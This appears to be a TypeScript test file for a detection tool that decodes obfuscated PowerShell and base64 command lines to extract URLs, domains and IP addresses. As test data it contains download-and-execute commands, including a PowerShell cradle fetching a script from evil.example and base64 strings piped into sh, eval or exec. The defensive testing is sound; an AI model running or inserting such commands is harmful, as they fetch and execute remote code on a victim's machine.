import { expect } from 'chai'
import { extractFromJson, extractObservables } from './extract-observables.ts'

const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64')
const utf8 = (text: string) => Buffer.from(text).toString('base64')
const download = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"

describe('indicators: encoded commands', () => {
  it('of PowerShell are decoded, in every form of the switch, with the pointer to the string', () => {
    for (const flag of ['-e', '-ec', '-en', '-enc', '-eNcOdEd', '-EncodedCommand', '/enc', '–enc']) {
      const { all } = extractFromJson({ process: { cmd: `powershell.exe -nop ${flag} ${utf16(download)}` } })
      expect(all, flag).to.deep.equal([
        { kind: 'url', value: 'http://evil.example/a.ps1', places: ['/process/cmd'] },
        { kind: 'domain', value: 'evil.example', places: ['/process/cmd'] },
      ])
    }
  })

  it('are decoded if code or a pipe decodes them', () => {
    const encoded = utf8('curl http://203.0.113.8/x')
    for (const text of [
      `[Convert]::FromBase64String('${encoded}')`,
      `[Convert]::FromBase64String("${utf16('curl http://203.0.113.8/x')}")`,
      `exec(base64.b64decode(b"${encoded}"))`,
      `eval(atob('${encoded}'))`,
      `echo ${encoded} | base64 -d | sh`,
      `echo -n '${encoded}'|base64 --decode`,
    ])
      expect(extractObservables(text).ip, text).to.deep.equal(['203.0.113.8'])
  })

  it('are decoded once, and only if the result is text', () => {
    const inner = `powershell -enc ${utf16(download)}`
    expect(extractObservables(`powershell -enc ${utf16(inner)}`).all).to.deep.equal([])
    const binary = Buffer.from(Array.from({ length: 600 }, (_, at) => (at * 37) % 256)).toString('base64')
    expect(extractObservables(`powershell -enc ${binary}`).all).to.deep.equal([])
    expect(extractObservables(`token ${utf16(download)}`).all).to.deep.equal([])
  })

  it('that are too long or too many are skipped, and the result reports it', () => {
    expect(extractObservables(`powershell -enc ${'QQBB'.repeat(60_000)}`).cut).to.deep.equal(['input'])
    expect(extractObservables(`x -enc ${utf16(download)}\n`.repeat(60)).cut).to.deep.equal(['input'])
  })
})
